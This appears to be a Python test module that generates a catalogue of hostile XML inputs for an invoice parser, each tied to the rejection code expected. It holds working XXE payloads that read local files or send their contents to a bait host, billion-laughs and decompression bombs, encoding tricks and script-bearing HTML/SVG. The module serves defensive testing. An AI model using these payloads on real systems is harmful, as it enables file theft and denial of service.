"""Attacks by XML: entities in every encoding, expansion, references elsewhere, encodings that lie, what is no XML.

The floods stand in ``xml_floods``, what hides an XML in another file in ``xml_carriers``.
Sources: libxml2's and lxml's advisories, OWASP's XXE catalogue, XML 1.0 appendix F; every byte is made here.
"""

from __future__ import annotations

import bz2
import codecs
import lzma
from collections.abc import Callable, Iterator
from functools import partial

from samples.generator import ubl_invoice
from samples.generator.archives import gz
from samples.generator.model import Note
from tests.hostile.attacks import Attack
from tests.hostile.bait import bait
from tests.hostile.xml_carriers import CARRIERS
from tests.hostile.xml_floods import FLOODS


def _behind_declaration(text: str, codec: str) -> bytes:
    head, rest = text.split("?>", 1)
    return (head + "?>").encode("ascii") + rest.encode(codec)


def _swapped(text: str) -> bytes:
    """UCS-4 in the unusual order 2143 of XML 1.0, appendix F."""
    return b"".join(bytes((0, 0, ord(char) & 255, 0)) for char in text)


_EXTERNAL = {  # how the entity, or the DTD, names what it wants; {0.file} and {0.host} are the bait's
    "file": '[<!ENTITY x SYSTEM "file://{0.file}">]',
    "bare-path": '[<!ENTITY x SYSTEM "{0.file}">]',
    "http": '[<!ENTITY x SYSTEM "http://{0.host}/xxe">]',
    "https": '[<!ENTITY x SYSTEM "https://{0.host}/xxe">]',
    "ftp": '[<!ENTITY x SYSTEM "ftp://{0.host}/xxe">]',
    "jar": '[<!ENTITY x SYSTEM "jar:http://{0.host}/xxe.jar!/x">]',
    "expect": '[<!ENTITY x SYSTEM "expect://cat {0.file}">]',
    "php": '[<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource={0.file}">]',
    "netdoc": '[<!ENTITY x SYSTEM "netdoc:{0.file}">]',
    "public": '[<!ENTITY x PUBLIC "-//EDI//X" "http://{0.host}/public">]',
    "parameter-file": '[<!ENTITY % p SYSTEM "file://{0.file}"> %p; <!ENTITY x "">]',
    "parameter-http": '[<!ENTITY % p SYSTEM "http://{0.host}/p.dtd"> %p; <!ENTITY x "">]',
    "nested-parameter": '[<!ENTITY % f SYSTEM "file://{0.file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM '
    '\'http://{0.host}/?%f;\'>"> %e; %s; <!ENTITY x "">]',
    "dtd-file": 'SYSTEM "file://{0.file}" [<!ENTITY x "">]',
    "dtd-http": 'SYSTEM "http://{0.host}/i.dtd" [<!ENTITY x "">]',
    "dtd-public": 'PUBLIC "-//EDI//DTD" "http://{0.host}/i.dtd" [<!ENTITY x "">]',
    "unparsed": '[<!NOTATION n SYSTEM "http://{0.host}/n"><!ENTITY u SYSTEM "file://{0.file}" NDATA n><!ENTITY x "">]',
}
_ENCODINGS: dict[str, tuple[str, Callable[[str], bytes], str]] = {  # declared, how it is written, what it gets
    "utf-8": ("UTF-8", str.encode, "XML_DOCTYPE"),
    "utf-8-bom": ("UTF-8", lambda text: codecs.BOM_UTF8 + text.encode(), "XML_DOCTYPE"),
    "latin-1": ("ISO-8859-1", lambda text: text.encode("latin-1"), "XML_DOCTYPE"),
    "utf-16-le-bom": ("UTF-16", lambda text: codecs.BOM_UTF16_LE + text.encode("utf-16-le"), "XML_DOCTYPE"),
    "utf-16-be-bom": ("UTF-16", lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"), "XML_DOCTYPE"),
    "utf-16-le": ("UTF-16LE", lambda text: text.encode("utf-16-le"), "XML_DOCTYPE"),
    "utf-16-be": ("UTF-16BE", lambda text: text.encode("utf-16-be"), "XML_DOCTYPE"),
    "utf-7": ("UTF-7", lambda text: text.encode("utf-7"), "XML_ENCODING"),
    "utf-7-declared": ("UTF-7", lambda text: _behind_declaration(text, "utf-7"), "XML_ENCODING"),
    "utf-32-le-bom": ("UTF-32", lambda text: codecs.BOM_UTF32_LE + text.encode("utf-32-le"), "XML_ENCODING"),
    "utf-32-be-bom": ("UTF-32", lambda text: codecs.BOM_UTF32_BE + text.encode("utf-32-be"), "XML_ENCODING"),
    "utf-32-le": ("UTF-32", lambda text: text.encode("utf-32-le"), "XML_ENCODING"),
    "utf-32-be": ("UTF-32", lambda text: text.encode("utf-32-be"), "XML_ENCODING"),
    "ebcdic": ("cp037", lambda text: text.encode("cp037"), "XML_ENCODING"),
    "ucs-4-2143": ("ISO-10646-UCS-4", _swapped, "TYPE_UNKNOWN"),
}

_EVERY_KIND = ("utf-8", "utf-16-le-bom", "utf-16-be", "latin-1")


def _invoice(doctype: str = "", note: str = "x", encoding: str = "UTF-8", prolog: str = "") -> str:
    """A good UBL invoice whose note is this raw XML."""
    text = ubl_invoice(notes=(Note("@@"),), doctype=doctype, prolog=prolog).decode()
    return text.replace("@@", note).replace('encoding="UTF-8"', f'encoding="{encoding}"')


def _external(kind: str, encoding: str) -> bytes:
    declared, write, _ = _ENCODINGS[encoding]
    return write(_invoice(f"<!DOCTYPE Invoice {_EXTERNAL[kind].format(bait())}>", "&x;", declared))


def _externals() -> Iterator[Attack]:
    """Every kind in four encodings, and in all of them the two that want the file."""
    for encoding, (_, _, code) in _ENCODINGS.items():
        for kind in _EXTERNAL if encoding in _EVERY_KIND else ("file", "parameter-file"):
            name = f"xxe-{kind}-{encoding}"
            yield Attack(name, f"XML : entité externe, {encoding}", partial(_external, kind, encoding), "x.xml", code)


def _text(*arguments: str) -> Callable[[], bytes]:
    """An invoice with this DOCTYPE and this note."""
    return lambda: _invoice(*arguments).encode()


def _laughs(levels: int = 9) -> str:
    steps = "".join(f"<!ENTITY l{n} '" + f"&l{n - 1};" * 10 + "'>" for n in range(1, levels + 1))
    return f'<!DOCTYPE Invoice [<!ENTITY l0 "ha">{steps}]>'


def _declared(count: int) -> str:
    return "".join(f"<!ENTITY e{n} ''>" for n in range(count))


def _percent_laughs() -> str:
    steps = "".join(f"<!ENTITY % l{n} '" + f"%l{n - 1};" * 10 + "'>" for n in range(1, 10))
    return f"<!DOCTYPE Invoice [<!ENTITY % l0 'ha'>{steps}%l9;]>"


def _expansions() -> Iterator[Attack]:
    large = f"<!DOCTYPE Invoice [<!ENTITY x '{'a' * 100_000}'>]>"
    small = f"<!DOCTYPE Invoice [<!ENTITY x '{'a' * 3_000}'>]>"
    row = "XML : expansion"
    for name, build in (
        ("billion-laughs", _text(_laughs(), "&l9;")),
        ("billion-laughs-utf-16", lambda: ("\ufeff" + _invoice(_laughs(), "&l9;", "UTF-16")).encode("utf-16-le")),
        ("billion-laughs-in-parameters", _text(_percent_laughs())),
        ("quadratic-blowup-2-gb", _text(large, "&x;" * 20_000)),
        ("quadratic-blowup-3-mb", _text(small, "&x;" * 1_000)),
        ("cyclic-entity", _text('<!DOCTYPE Invoice [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;")),
        ("entity-in-attribute", lambda: _invoice(_laughs()).replace('currencyID="EUR"', 'currencyID="&l9;"').encode()),
        ("default-attribute-bomb", _text('<!DOCTYPE Invoice [<!ATTLIST Invoice a CDATA "' + "a" * 500_000 + '">]>')),
        ("content-model-bomb", _text(f"<!DOCTYPE Invoice [<!ELEMENT Invoice {'(' * 20_000}a{')' * 20_000}>]>")),
        ("200000-entities", _text(f"<!DOCTYPE Invoice [{_declared(200_000)}]>")),
    ):
        yield Attack(name, row, build, "x.xml", "XML_DOCTYPE", bomb=True)


def _hidden() -> Iterator[Attack]:
    """A DOCTYPE behind something that a hasty look would not pass."""
    row, subset = "XML : DOCTYPE caché", f"<!DOCTYPE Invoice {_EXTERNAL['file']}>"

    def behind(prolog: str, **changes: str) -> Callable[[], bytes]:
        return lambda: _invoice(prolog + subset.format(bait()), "&x;", **changes).encode()

    def wide() -> bytes:
        text = _invoice(f"<!--{'c' * 1_000_000}-->" + subset.format(bait()), "&x;", "UTF-16")
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be")

    yield Attack("doctype-after-1-mb-of-comment", row, behind(f"<!--{'c' * 1_000_000}-->"), "x.xml", "XML_DOCTYPE")
    yield Attack("doctype-after-1-mb-of-comment-utf-16", row, wide, "x.xml", "XML_DOCTYPE")
    yield Attack("doctype-after-12-mb-of-comment", row, behind(f"<!--{'c' * 9_000_000}-->" + " " * 3_000_000), "x.xml",
                 "XML_DOCTYPE")  # fmt: skip
    yield Attack("doctype-after-instruction", row, behind("<?a <!--?>"), "x.xml", "XML_DOCTYPE")
    yield Attack("doctype-after-tags-in-comment", row, behind("<!--<Invoice/>-->"), "x.xml", "XML_DOCTYPE")
    yield Attack("doctype-after-100000-comments", row, behind("<!---->" * 100_000), "x.xml", "XML_DOCTYPE")
    yield Attack("doctype-without-declaration", row, lambda: _undeclared(subset), "x.xml", "XML_DOCTYPE")
    yield Attack("doctype-after-root", row, lambda: _invoice().encode() + subset.format(bait()).encode(), "x.xml",
                 "XML_UNREADABLE")  # fmt: skip
    yield Attack("doctype-in-lower-case", row, _text("<!doctype Invoice [<!ENTITY x 'y'>]>", "&x;"), "x.xml",
                 "XML_DOCTYPE")  # fmt: skip
    yield Attack("doctype-inside-root", row, _text("", subset.format(bait())), "x.xml", "XML_UNREADABLE")
    yield Attack("overlong-doctype", row, lambda: _overlong(subset), "x.xml", "XML_ENCODING")


def _undeclared(subset: str) -> bytes:
    text = _invoice(subset.format(bait()), "&x;")
    return text.split("?>", 1)[1].lstrip().encode()


def _overlong(subset: str) -> bytes:
    """The ``<`` of the DOCTYPE written in two bytes, as old decoders accept it."""
    return _invoice(subset.format(bait()), "&x;").encode().replace(b"<!DOCTYPE", b"\xc0\xbc!DOCTYPE")


_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
_XSI = ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
_UBL = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"


def _references() -> Iterator[Attack]:
    """Each names another file or an address: read as text or refused by the schema, never followed."""
    row = "XML : référence à suivre"

    def note(pattern: str) -> Callable[[], bytes]:
        return lambda: _invoice("", pattern.format(bait())).encode()

    def root(pattern: str) -> Callable[[], bytes]:
        return lambda: ubl_invoice(number="H-XSI", root_attributes=pattern.format(bait()))

    def prolog(pattern: str) -> Callable[[], bytes]:
        return lambda: ubl_invoice(number="H-PI", prolog=pattern.format(bait()))

    for name, build, code in (
        ("xinclude-file", note(f'<xi:include {_XI} href="file://{{0.file}}" parse="text"/>'), "XSD_UNEXPECTED"),
        ("xinclude-http", note(f'<xi:include {_XI} href="http://{{0.host}}/x"/>'), "XSD_UNEXPECTED"),
        ("xinclude-fallback", note(f'<xi:include {_XI} href="file://{{0.file}}"><xi:fallback/></xi:include>'),
         "XSD_UNEXPECTED"),
        ("schema-location-http", root(f'{_XSI} xsi:schemaLocation="{_UBL} http://{{0.host}}/i.xsd"'), ""),
        ("schema-location-file", root(f'{_XSI} xsi:schemaLocation="{_UBL} file://{{0.file}}"'), ""),
        ("no-namespace-location-http", root(f'{_XSI} xsi:noNamespaceSchemaLocation="http://{{0.host}}/i.xsd"'), ""),
        ("no-namespace-location-file", root(f'{_XSI} xsi:noNamespaceSchemaLocation="file://{{0.file}}"'), ""),
        ("xml-base", root(' xml:base="http://{0.host}/"'), "XSD_ATTRIBUTE_UNKNOWN"),
        ("stylesheet-http", prolog('<?xml-stylesheet type="text/xsl" href="http://{0.host}/x.xsl"?>'), ""),
        ("stylesheet-file", prolog('<?xml-stylesheet type="text/xsl" href="file://{0.file}"?>'), ""),
        ("xml-model-http", prolog('<?xml-model href="http://{0.host}/x.rng"?>'), ""),
        ("oasis-catalog", prolog('<?oasis-xml-catalog catalog="http://{0.host}/catalog.xml"?>'), ""),
    ):  # fmt: skip
        yield Attack(name, row, build, "x.xml", code)


def _encodings() -> Iterator[Attack]:
    row = "XML : encodage menteur"
    good = _invoice(note="Réglé à l’échéance")
    wide = good.replace("UTF-8", "UTF-16", 1)
    for name, content, code in (
        ("invalid-utf-8", good.encode().replace(b"\xc3\xa9", b"\xe9", 1), "XML_ENCODING"),
        ("overlong-slash", good.encode().replace(b"gl\xc3", b"\xc0\xaf\xc3", 1), "XML_ENCODING"),
        ("overlong-nul", good.encode().replace(b"gl\xc3", b"\xc0\x80\xc3", 1), "XML_ENCODING"),
        ("surrogate-in-utf-8", good.encode().replace(b"gl\xc3", b"\xed\xa0\x80\xc3", 1), "XML_ENCODING"),
        ("beyond-unicode", good.encode().replace(b"gl\xc3", b"\xf4\x90\x80\x80\xc3", 1), "XML_ENCODING"),
        ("lone-surrogate-in-utf-16", b"\xff\xfe" + wide.replace("é", "\ud800", 1).encode("utf-16-le", "surrogatepass"),
         "XML_ENCODING"),
        ("nul-byte-in-text", good.encode().replace(b"gl\xc3", b"g\0\xc3", 1),
         "XML_UNREADABLE"),
        ("nul-byte-in-number", good.encode().replace(b"FA-2026", b"FA\x002026", 1), "XML_UNREADABLE"),
        ("nul-reference", _invoice(note="&#0;").encode(), "XML_UNREADABLE"),
        ("escape-reference", _invoice(note="&#27;[2J").encode(), "XML_UNREADABLE"),
        ("bom-be-text-le", b"\xfe\xff" + wide.encode("utf-16-le"), "XML_NOT_XML"),
        ("bom-le-text-be", b"\xff\xfe" + wide.encode("utf-16-be"), "XML_NOT_XML"),
        ("bom-utf-8-declared-utf-16", codecs.BOM_UTF8 + wide.encode(), "XML_ENCODING"),
        ("bom-utf-8-declared-latin-1", codecs.BOM_UTF8 + good.replace("UTF-8", "ISO-8859-1", 1).encode(),
         "XML_ENCODING"),
        ("bom-utf-16-declared-utf-8", b"\xff\xfe" + good.encode("utf-16-le"), "XML_ENCODING"),
        ("bom-utf-16-cut", b"\xff\xfe" + wide.encode("utf-16-le")[:-1], "XML_UNREADABLE"),
        ("bom-twice", codecs.BOM_UTF8 * 2 + good.encode(), "XML_NOT_XML"),
        ("bom-utf-8-text-utf-16", codecs.BOM_UTF8 + good.encode("utf-16-le"), "XML_ENCODING"),
        ("declared-late", (" " * 2_000 + "<?xml version='1.0' encoding='UTF-7'?><a/>").encode(), "XML_UNREADABLE"),
        ("declared-after-2-kb", f"<?xml version='1.0'{' ' * 2_000}encoding='UTF-7'?><a>+ADw-b/+AD4-</a>".encode(),
         "FORMAT_UNKNOWN"),
        ("declared-idna", good.replace("UTF-8", "idna", 1).encode(), "XML_ENCODING"),
        ("declared-unicode-escape", good.replace("UTF-8", "unicode_escape", 1).encode(), "XML_ENCODING"),
        ("declared-bz2-codec", good.replace("UTF-8", "bz2", 1).encode(), "XML_ENCODING"),
        ("declared-path", good.replace("UTF-8", "../../etc/passwd", 1).encode(), "XML_ENCODING"),
        ("declared-very-long", good.replace("UTF-8", "U" * 900, 1).encode(), "XML_ENCODING"),
        ("version-2", good.replace('version="1.0"', 'version="2.0"', 1).encode(), "XML_UNREADABLE"),
    ):  # fmt: skip
        yield Attack(name, row, partial(bytes, content), "x.xml", code)


def _disguised() -> Iterator[Attack]:
    row, good = "XML : autre chose sous ce nom", _invoice().encode()
    zeros = bytes(64 * 1024 * 1024)
    for name, build, code, bomb in (
        ("gzip-as-xml", lambda: gz(good), "ARCHIVE_UNREADABLE", False),
        ("bzip2-as-xml", lambda: bz2.compress(good), "TYPE_UNKNOWN", False),
        ("xz-as-xml", lambda: lzma.compress(good), "TYPE_UNKNOWN", False),
        ("gzip-bomb-as-xml", lambda: gz(zeros), "ARCHIVE_LIMIT", True),
        ("bzip2-bomb-as-xml", lambda: bz2.compress(zeros), "TYPE_UNKNOWN", True),
        ("nul-bytes-as-xml", lambda: bytes(1024 * 1024), "TYPE_UNKNOWN", False),
        ("html-as-xml", lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>", "XML_NOT_XML", False),
        ("svg-as-xml", lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "FORMAT_UNKNOWN", False),
        ("xslt-as-xml", _style_sheet, "FORMAT_UNKNOWN", False),
        ("schema-as-xml", _schema, "FORMAT_UNKNOWN", False),
        ("only-declaration", lambda: b'<?xml version="1.0"?>', "XML_UNREADABLE", False),
    ):
        yield Attack(name, row, build, "x.xml", code, bomb=bomb)


def _style_sheet() -> bytes:
    return (
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
        f'<xsl:import href="http://{bait().host}/x.xsl"/><xsl:template match="/">'
        f"<xsl:copy-of select=\"document('file://{bait().file}')\"/></xsl:template></xsl:stylesheet>"
    ).encode()


def _schema() -> bytes:
    return (
        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
        f'<xs:include schemaLocation="http://{bait().host}/x.xsd"/>'
        f'<xs:import namespace="urn:x" schemaLocation="file://{bait().file}"/></xs:schema>'
    ).encode()


XML_ATTACKS: tuple[Attack, ...] = (
    *_externals(),
    *_expansions(),
    *_hidden(),
    *_references(),
    *_encodings(),
    *_disguised(),
    *FLOODS,
    *CARRIERS,
)
